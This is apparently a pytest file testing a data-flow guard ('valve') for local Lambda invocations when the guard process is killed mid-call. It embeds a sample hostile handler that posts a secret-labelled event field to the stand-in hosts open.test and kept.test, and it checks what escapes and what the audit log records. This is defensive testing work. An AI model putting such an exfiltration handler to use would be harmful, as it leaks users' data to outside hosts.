"""F06: The valve killed while a call is at the other side.

Knows the moment. Does not try every step; `tests/kill` does.
"""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from tests.attacks.walled import TRIGGER, Walled, machine
from tests.house.source import ROOT
from valve_aws.audit import read_records

SEND = """
import urllib.request
def handler(event, context):
    for host in ('open.test', 'kept.test'):
        try: urllib.request.urlopen(f'http://{host}/{host}', event['word'].encode(), timeout=30).read()
        except OSError as e: print(type(e).__name__, flush=True)
    return 'done'
"""


def ran(walled: Walled, mode: str, kill: bool) -> tuple[int, list[str]]:
    """Run a valve, killed by the first request that arrives or not at all; return its status, and all that
    arrived."""
    started: list[subprocess.Popen[bytes]] = []
    with machine(lambda: started[0].kill() if kill else None) as (port, told):
        argv = [sys.executable, "-m", "valve_aws.cli", "local", "invoke", "Hostile", "--mode", mode]
        argv += ["-t", str(walled.folder / "template.yaml"), "--event-source", TRIGGER, "-e", "-"]
        argv += ["--audit", str(walled.folder / "audit.jsonl"), "--labels", str(walled.folder / "labels.db")]
        for host in ("open.test", "kept.test"):
            argv += ["--resolve", f"{host}:80=127.0.0.1:{port}"]
        pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
        with subprocess.Popen(argv, cwd=ROOT, **pipes) as valve:
            started.append(valve)
            valve.communicate(json.dumps({"word": "marker"}).encode(), timeout=60)
        return valve.returncode, told


@pytest.fixture
def sent(walled: Walled) -> Walled:
    return walled.lay(SEND)


def test_with_the_guard_off_it_dies_having_sent_what_may_not_leave(sent: Walled) -> None:
    code, told = ran(sent, "off", kill=True)
    assert (code, told) == (-9, ["/open.test marker"])


def test_enforced_it_dies_having_sent_and_recorded_what_may(sent: Walled) -> None:
    code, told = ran(sent, "enforce", kill=True)
    assert (code, told) == (-9, ["/kept.test marker"])
    records = {r.resources: r for r in read_records(sent.folder / "audit.jsonl") if r.operation == "Visit"}
    verdicts = {str(resources): (r.verdict, r.label) for resources, r in records.items()}
    assert len(verdicts) == 2, verdicts
    assert "refuse" in str(verdicts)
    assert all("secret" in str(label) for _, label in verdicts.values())


def test_the_next_valve_tells_what_was_left_open_and_works(sent: Walled) -> None:
    ran(sent, "enforce", kill=True)
    assert ran(sent, "enforce", kill=False) == (3, ["/kept.test marker"])
    outcomes = [r.verdict for r in read_records(sent.folder / "audit.jsonl") if r.verdict == "settled"]
    assert outcomes
